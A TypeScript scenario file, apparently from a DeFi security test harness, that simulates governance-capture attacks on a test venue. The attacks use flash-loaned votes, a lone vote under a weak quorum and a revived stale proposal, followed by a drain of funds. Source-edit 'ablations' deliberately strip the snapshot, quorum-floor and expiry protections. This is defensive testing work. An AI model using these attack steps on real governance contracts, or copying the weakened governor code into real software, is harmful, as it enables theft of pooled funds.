/** Votes that are borrowed, votes that nobody casts, and a vote that was won and forgotten. */
import type { Hex } from '@holdfast/units';
import { encodeFunctionData, parseAbi } from 'viem';
import type { Ablation, Attack } from '../types.ts';
import { idOf, type Motion, motionOf, press, propose } from '../world/motions.ts';
import { callAt, dataFor, placeOf, putUnderVotes } from '../world/places.ts';
import type { World } from '../world/world.ts';
import { days } from './admin-burst.ts';
import { drain, furnish } from './stolen-feed.ts';

const file = 'Votes.sol';
const governor = 'src/governance/VenueGovernor.sol';
const unit = 10n ** 18n;
/** Half of the votes lie with a lender; a fifth of all decides. */
const holdings = { lender: 500_000n, ann: 200_000n, ben: 200_000n, mallory: 100_000n };

const votesAbi = parseAbi([
  'function delegate(address to)',
  'function vote(address lender, address token, address target, bytes data)',
]);

const motion = (world: World, what: string): Motion =>
  motionOf(
    what,
    world.venue.contracts.oracle,
    dataFor('Oracle', 'proposeVerifier', [placeOf(world, 'feed')]),
  );

const vote = async (world: World, by: string, on: Motion) =>
  callAt(world, by, 'VenueGovernor', 'castVote', [await idOf(world, on), 1], `votes: ${on.what}`);

async function deployVotes(world: World): Promise<Hex> {
  const lender = await world.deploy('deployer', file, 'Lender');
  const holders = Object.keys(holdings).map((name) =>
    name === 'lender' ? lender : world.key(name).address,
  );
  const amounts = Object.values(holdings).map((whole) => whole * unit);
  const types = ['address[]', 'uint256[]'];
  const token = await world.deploy('deployer', file, 'VotesToken', types, [holders, amounts]);
  for (const [name, address] of Object.entries({ lender, votes: token })) {
    world.placed.set(name, { address, args: '' });
  }
  for (const by of ['ann', 'ben', 'mallory']) {
    const args = [world.key(by).address] as const;
    const data = encodeFunctionData({ abi: votesAbi, functionName: 'delegate', args });
    await world.send(by, 'delegates to itself', { to: token, data });
  }
  return token;
}

/** All that the lender has, for the length of one transaction. */
async function borrowed(world: World, on: Motion): Promise<void> {
  const borrower = await world.deploy('mallory', file, 'Borrower');
  const ballot = dataFor('VenueGovernor', 'castVote', [await idOf(world, on), 1]);
  const [lender, votes] = [placeOf(world, 'lender'), placeOf(world, 'votes')];
  const args = [lender, votes, placeOf(world, 'VenueGovernor'), ballot] as const;
  const data = encodeFunctionData({ abi: votesAbi, functionName: 'vote', args });
  await world.send('mallory', `votes with a loan: ${on.what}`, { to: borrower, data });
}

const governorWithout = (name: string, edit: { file?: string; from: string; to: string }) =>
  ({
    kind: 'source',
    name,
    contracts: ['VenueGovernor'],
    edits: [{ file: governor, ...edit }],
  }) satisfies Ablation;

export const governanceCapture: Attack = {
  kind: 'attack',
  name: 'governance-capture',
  title: 'Three ways to a vote that nobody gave',
  story:
    'Tokens vote here, and the guardians sleep. The attacker borrows half of all votes for one ' +
    'transaction; votes alone with a tenth while all others are silent; and brings out a vote ' +
    'that was won and given up eight days ago, for a feed that she has bought since.',
  incidents: ['Beanstalk 2022, $182M: a vote with a flash loan'],
  control: 'votes of a snapshot before the vote; a quorum with a floor; what won dies in a week',
  invariants: ['I11', 'I12'],
  bound: 0n,
  profitMin: 500_000_000_000n,
  async before(world) {
    await putUnderVotes(world, {
      votes: { token: await deployVotes(world) },
      votingDelaySeconds: 60,
      votingPeriodSeconds: 86_400,
      threshold: unit,
      quorumFloor: 200_000n * unit,
      quorumPpm: 200_000n,
      loosenSeconds: 2 * 86_400,
      shadowSeconds: 7 * 86_400,
      shadowQuote: 50_000_000_000n,
    });
    await furnish(world);
    const forgotten = motion(world, 'forgotten');
    await propose(world, 'ann', [forgotten]);
    await world.wait(70);
    for (const by of ['ann', 'ben']) await vote(world, by, forgotten);
    await world.wait(9 * 86_400);
    await world.price({ 'ETH-USD': 3_000 });
  },
  async run(world) {
    const all = ['forgotten', 'borrowed', 'dormant'].map((what) => motion(world, what));
    const [, loan, lone] = all as [Motion, Motion, Motion];
    await world.attack('takes the votes that it can get', async () => {
      await propose(world, 'mallory', [loan, lone]);
      await world.wait(70);
      await borrowed(world, loan);
      await vote(world, 'mallory', lone);
      await press(world, 'mallory', all);
    });
    for (const seconds of days) {
      await world.wait(seconds);
      await world.attack('presses on', () => press(world, 'mallory', all));
    }
    await world.attack('drains what is open to it', () => drain(world));
    await world.price({ 'ETH-USD': 3_000 });
    await world.withdraw('alice', 1_000);
  },
  ablations: [
    governorWithout('votes are those of the snapshot', {
      file: '@openzeppelin/contracts/governance/extensions/GovernorVotes.sol',
      from: 'return token().getPastVotes(account, timepoint);',
      to: 'timepoint; return token().getVotes(account);',
    }),
    governorWithout('a quorum has a floor', {
      from: 'return share > quorumFloor ? share : quorumFloor;',
      to: 'share; return 1;',
    }),
    governorWithout('what won and was not queued dies', {
      from: 'uint256 last = proposalDeadline(proposalId) + QUEUE_SECONDS;',
      to: 'uint256 last = type(uint256).max;',
    }),
  ],
};
